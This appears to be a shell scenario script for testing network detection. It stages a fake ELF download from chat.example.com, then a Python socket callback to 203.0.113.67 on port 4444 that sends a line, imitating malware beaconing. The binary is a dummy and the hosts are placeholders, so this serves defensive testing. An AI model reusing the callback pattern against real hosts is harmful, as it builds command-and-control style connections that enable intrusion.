title='The wire beside an0321 fires.telegram-elf'
what='A program fetched by HTTP from chat.example.com; 7 seconds later a connection to port 4444 elsewhere that sends a line. The capture is moved to the time of the recorded case.'
anchor=203.0.113.82:80 at=2026-11-21T09:51:37.118Z keep='dns http fileinfo flow'
prepare() { { printf '\177ELF\002\001\001'; head -c 15833 /dev/zero; } > "$work/www/photo_viewer"; }
act() {
  in_root curl -s -o /dev/null http://chat.example.com/photo_viewer
  sleep 7.1
  in_root python3 -c 'import socket; s = socket.create_connection(("203.0.113.67", 4444)); s.sendall(b"hello\n"); s.close()'
}
finish() { :; }
